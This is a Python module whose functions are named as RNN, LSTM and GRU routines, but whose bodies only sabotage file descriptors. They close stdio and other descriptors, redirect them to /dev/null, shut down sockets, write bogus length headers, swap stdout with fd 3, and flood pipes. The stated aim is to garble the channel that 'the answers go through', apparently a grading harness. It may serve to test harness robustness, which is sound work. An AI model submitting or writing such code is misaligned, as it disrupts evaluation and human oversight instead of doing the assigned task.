"""Close, replace, shut down, fill or garble the descriptors that the answers go through."""

import os
import socket


def each():
    for fd in range(10):
        try:
            os.fstat(fd)
            yield fd
        except OSError:
            pass


def rnn_step(x, h, W_x, W_h, b):
    os.closerange(0, 256)


def rnn_forward(x, h_0, W_x, W_h, b):
    for fd in each():
        os.dup2(os.open(os.devnull, os.O_RDWR), fd)


def rnn_backward(dh, x, h_0, h, W_x, W_h, truncate=None):
    for fd in each():
        try:
            socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_WR)
        except OSError:
            pass


def gradient_norms(dh, h, W_h):
    """A length that never comes true, and silence."""
    for fd in list(each())[3:]:
        os.write(fd, (100 * 2**20).to_bytes(8, "little") + b"x" * 100)
    os.closerange(1, 3)


def clip_by_global_norm(gradients, max_norm):
    """Crosswise: what is printed is an answer and what is answered is printed."""
    os.dup2(3, 10)
    os.dup2(1, 3)
    os.dup2(10, 1)
    print("{}" * 100, flush=True)


def lstm_step(x, h, c, W, b):
    first, second = socket.socketpair()
    os.dup2(first.detach(), 3)
    second.detach()


def gru_step(x, h, W, b):
    for fd in list(each())[3:]:
        try:
            os.set_blocking(fd, False)  # for both ends of some, and only for this one of others
            while True:
                os.write(fd, b"\xff" * 2**16)
        except OSError:
            pass
